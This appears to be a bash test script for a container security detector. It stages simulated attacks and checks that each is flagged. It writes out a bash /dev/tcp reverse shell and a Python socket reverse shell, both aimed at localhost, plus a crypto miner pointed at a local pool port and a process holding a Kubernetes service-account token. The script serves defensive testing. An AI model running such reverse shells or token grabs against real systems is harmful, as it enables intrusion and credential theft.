#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Mining, reverse shells, raw sockets, code from a pipe, a token held open. Nothing leaves the container.
# timeout: 600
# needs: mmdebstrap
# alone: it looks for who keeps a CPU busy
. "$CSI_TOP/tests/helpers/lib.sh"
. "$CSI_TOP/tests/attacks/lib.sh"
TOKEN=/var/run/secrets/kubernetes.io/serviceaccount/token
attack_up
began=$SECONDS

start run /opt/worker burn && busy=$PID
worker=$(host_pid "$busy")
start listen 3333 4444
start run /opt/xmrig hold /opt -o stratum+tcp://127.0.0.1:3333 -u wallet && args=$PID
start connect 3333 && pool=$PID
start run /opt/pool connect 3333 && pool_new=$PID
sh_start "exec bash -c 'exec 3>&-; exec bash -i >&/dev/tcp/127.0.0.1/4444 0>&1'" && reverse=$PID
sh_start 'exec 3>&-; exec python3 -c "
import os, pty, socket
s = socket.create_connection((\"127.0.0.1\", 4444))
for fd in range(3): os.dup2(s.fileno(), fd)
s.recv(1)"' && python=$PID
start raw && raw=$PID
start packet && packet=$PID
sh_start 'exec 3>&-; exec python3 -c "import time; time.sleep(1000)"' && argument=$PID
sh_start '(echo "sleep 1000"; exec sleep 1000 3>&-) | (exec 3>&-; exec bash -s) & echo child $! >&3; exec 3>&-; wait' &&
	stdin=$(said child)
do_sh "mkdir -p ${TOKEN%/*} && echo aaaa.bbbb.cccc >$TOKEN"
start run /opt/thief hold "$TOKEN" && token=$PID
sleep $((21 - (SECONDS - began) > 0 ? 21 - (SECONDS - began) : 0))
# On a machine that does other work it may have got no CPU: then there is nothing to be seen.
percent=$(awk -v age="$(ps -o etimes= -p "$worker")" -v hz="$(getconf CLK_TCK)" \
	'{ printf "%d", ($14 + $15) / hz / age * 100 }' "/proc/$worker/stat")
triage
if [ "$percent" -ge 86 ]; then found busy "$busy"; else note "the worker got only $percent % of a CPU"; fi
[ "$percent" -gt 74 ] || found starved "$busy"
found miner-args "$args"
found pool-port "$pool"
found pool-port-new "$pool_new"
found reverse-shell "$reverse"
found python-shell "$python"
found raw-socket "$raw"
found packet-socket "$packet"
found code-argument "$argument"
found code-stdin "$stdin"
found token-thief "$token"
cells
